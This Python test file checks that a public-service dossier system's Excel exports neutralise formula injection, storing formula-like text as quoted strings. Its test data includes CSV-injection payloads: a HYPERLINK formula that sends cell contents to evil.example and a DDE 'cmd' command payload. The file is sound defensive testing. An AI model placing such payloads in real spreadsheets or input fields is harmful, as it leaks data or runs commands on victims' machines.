"""Exports neutralise formula injection: a text typed by an applicant or an officer that starts
with =, +, -, @, a tab or a carriage return comes out of every XLSX as a string cell with the
quote prefix (never a formula), with its value unchanged; read back with openpyxl."""

from datetime import date
from decimal import Decimal
import io

from openpyxl import load_workbook
import pytest

from motcua.catalog import services as catalog
from motcua.catalog.constants import TimeUnit
from motcua.catalog.xlsx import export_catalog
from motcua.dossiers.services import ApplicantData
from motcua.dossiers.tests.conftest import build_world, vn
from motcua.indices.scope import Period
from motcua.reports.register import write_register
from motcua.reports.xlsx import header, workbook
from motcua.reports.xlsx_stream import StreamedSheet

pytestmark = pytest.mark.django_db

# (A carriage return is neutralised too, but XML reads it back as a line feed.)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def _cells(out: io.BytesIO):
    out.seek(0)
    return [cell for row in load_workbook(out).active.iter_rows() for cell in row]


def _assert_neutralised(cells, texts):
    found = {cell.value: cell for cell in cells if cell.value in texts}
    assert set(found) == set(texts)
    for cell in found.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value


def test_the_streamed_register_writes_formula_like_text_as_quoted_strings():
    out = io.BytesIO()
    with StreamedSheet(out, "So") as sheet:
        sheet.append(ATTACKS)
        sheet.append(["Nguyễn Văn A", "=1+1"], bold=True)
    cells = _cells(out)
    _assert_neutralised(cells, ATTACKS + ["=1+1"])
    plain = next(cell for cell in cells if cell.value == "Nguyễn Văn A")
    assert not plain.quotePrefix


def test_the_write_only_workbooks_of_statistics_and_briefings_write_no_formula():
    book = workbook()
    sheet = book.create_sheet("Thống kê")
    sheet.append(header(sheet, ["=1+1"]))
    sheet.append([*ATTACKS, 5, Decimal("1.5"), "Bình thường"])
    out = io.BytesIO()
    book.save(out)
    cells = _cells(out)
    _assert_neutralised(cells, ATTACKS + ["=1+1"])
    assert [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None] == [
        5,
        1.5,
    ]


def test_the_register_of_a_dossier_whose_applicant_typed_a_formula(db):
    world = build_world()
    name = '=HYPERLINK("http://evil.example","Xem")'
    applicant = ApplicantData(name=name, address="@SUM(1+1)", phone="0912345678")
    world.receive(applicant=applicant, at=vn(2024, 3, 4, 9, 30))
    out = io.BytesIO()
    assert write_register(world.agency, Period(date(2024, 3, 4), date(2024, 3, 4)), out) == 1
    _assert_neutralised(_cells(out), [name, "@SUM(1+1); ĐT: 0912345678"])


def test_the_catalogue_export_keeps_a_formula_like_name_as_text_that_imports_back(db):
    world = build_world()
    name = "=cmd|' /C calc'!A0"
    version = catalog.create_procedure(
        world.agency,
        name=name,
        national_code="9.999999",
        time_limit_value=Decimal(5),
        time_limit_unit=TimeUnit.WORKING_DAYS,
    )
    assert version.name == name
    out = io.BytesIO()
    export_catalog(world.agency).save(out)
    out.seek(0)
    cells = [
        cell for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for cell in row
    ]
    _assert_neutralised(cells, [name])
